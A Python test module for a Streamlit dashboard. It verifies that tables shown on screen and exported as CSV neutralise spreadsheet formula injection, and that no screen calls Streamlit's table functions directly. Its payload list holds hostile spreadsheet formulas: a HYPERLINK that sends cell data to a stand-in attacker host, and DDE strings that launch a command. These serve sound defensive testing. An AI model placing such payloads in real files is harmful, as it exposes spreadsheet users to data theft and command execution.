"""Every way out of a table is safe (issue 28 item 3): Streamlit's own "Download as CSV" and clipboard copy
take the frame as handed to Streamlit, so ui/tables neutralises it, and no screen bypasses ui/tables."""
from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
from streamlit.testing.v1 import AppTest

from reports.safe_csv import is_formula, to_csv_bytes

ROOT = Path(__file__).resolve().parent.parent
DIRECT = {"dataframe", "data_editor", "table", "experimental_data_editor"}
PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "+SUM(1,2)",
            "-2+3+cmd|'/C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1", "Təhsil keyfiyyəti", "Plan\r=1+1"]


def _direct_calls(path: Path, root: Path = ROOT) -> list[str]:
    """st.dataframe(...), st.data_editor(...), st.table(...) and column.dataframe(...) calls in one file (a
    module's own function of that name, e.g. indicators_view.table(...), is not Streamlit's)."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    modules = {(a.asname or a.name).split(".")[0] for node in ast.walk(tree)
               if isinstance(node, ast.Import | ast.ImportFrom) for a in node.names} - {"st", "streamlit"}
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in DIRECT \
                and not (isinstance(node.func.value, ast.Name) and node.func.value.id in modules):
            found.append(f"{path.relative_to(root)}:{node.lineno} .{node.func.attr}(")
    return found


def test_no_screen_shows_a_table_itself() -> None:
    files = sorted((ROOT / "screens").rglob("*.py")) + sorted((ROOT / "ui").rglob("*.py")) + [ROOT / "app.py"]
    found = [c for f in files if f != ROOT / "ui" / "tables.py" for c in _direct_calls(f)]
    assert found == [], "show tables through ui.tables.show / ui.tables.editor: " + ", ".join(found)
    assert _direct_calls(ROOT / "ui" / "tables.py")  # the walker does find them where they are allowed


def test_the_walker_finds_columns_and_containers(tmp_path: Path) -> None:
    page = tmp_path / "page.py"
    page.write_text("import streamlit as st\nfrom analytics import views\ncols = st.columns(2)\n"
                    "cols[0].dataframe(x)\nwith st.container() as box:\n    box.table(x)\nviews.table(x)\n"
                    "st.data_editor(x)\n", encoding="utf-8")
    assert sorted(c.split(" ")[1] for c in _direct_calls(page, tmp_path)) == [".data_editor(", ".dataframe(", ".table("]


def _starts_badly(value: object) -> bool:
    if isinstance(value, list | tuple | np.ndarray):
        return any(_starts_badly(v) for v in value)
    return isinstance(value, str) and is_formula(value)  # a formula starter, and not a signed number


SHOW = """
import pandas as pd
from ui import tables
PAYLOADS = {payloads!r}
frame = pd.DataFrame({{"title": PAYLOADS, "units": [[p, "Tədris"] for p in PAYLOADS],
                      "year": list(range(2021, 2021 + len(PAYLOADS))), "change": [-5.5] * len(PAYLOADS),
                      "gap": ["-3"] * len(PAYLOADS), "=HYPERLINK(1)": ["x"] * len(PAYLOADS)}})
tables.show(frame, hide_index=True)
edited = tables.editor(frame[["title", "year"]].assign(comment=PAYLOADS), disabled=["title", "year"],
                       key="ed", hide_index=True)
import streamlit as st
st.session_state["_edited"] = edited
"""


def test_a_payload_frame_leaves_the_page_neutralised() -> None:
    at = AppTest.from_string(SHOW.format(payloads=PAYLOADS), default_timeout=60).run()
    assert not at.exception, at.exception
    shown = at.dataframe[0].value
    assert len(shown) == len(PAYLOADS)
    cells = [v for col in shown.columns for v in shown[col]] + list(shown.columns)
    assert not [c for c in cells if _starts_badly(c)], shown
    assert shown.title.iloc[0] == "'" + PAYLOADS[0] and shown.title.iloc[-2] == "Təhsil keyfiyyəti"
    assert shown.title.iloc[-1] == "Plan\n=1+1"  # a bare CR (unquoted by Streamlit's CSV) is a line feed
    assert list(shown.units.iloc[1]) == ["'=cmd|' /C calc'!A0", "Tədris"]  # a list stays a list
    assert pd.api.types.is_integer_dtype(shown.year) and pd.api.types.is_float_dtype(shown.change)
    assert (shown.change == -5.5).all() and (shown.gap == "-3").all()  # numbers keep their sign
    # the editor: read-only columns neutralised on screen, the caller gets its own values back
    on_screen = at.dataframe[1].value
    assert not [v for v in on_screen.title if _starts_badly(v)]
    edited = at.session_state["_edited"]
    assert list(edited.title) == PAYLOADS and list(edited.comment) == PAYLOADS


def test_product_csv_and_table_share_one_rule() -> None:
    """The product's CSV keeps a signed number as a number and neutralises the same starters."""
    data = to_csv_bytes(pd.DataFrame({"a": [*PAYLOADS, "-3", "-12,5 %"]})).decode("utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(data, newline=""))][1:]
    assert len(cells) == len(PAYLOADS) + 2 and not [c for c in cells if _starts_badly(c)]
    assert cells[-2:] == ["-3", "-12,5 %"]
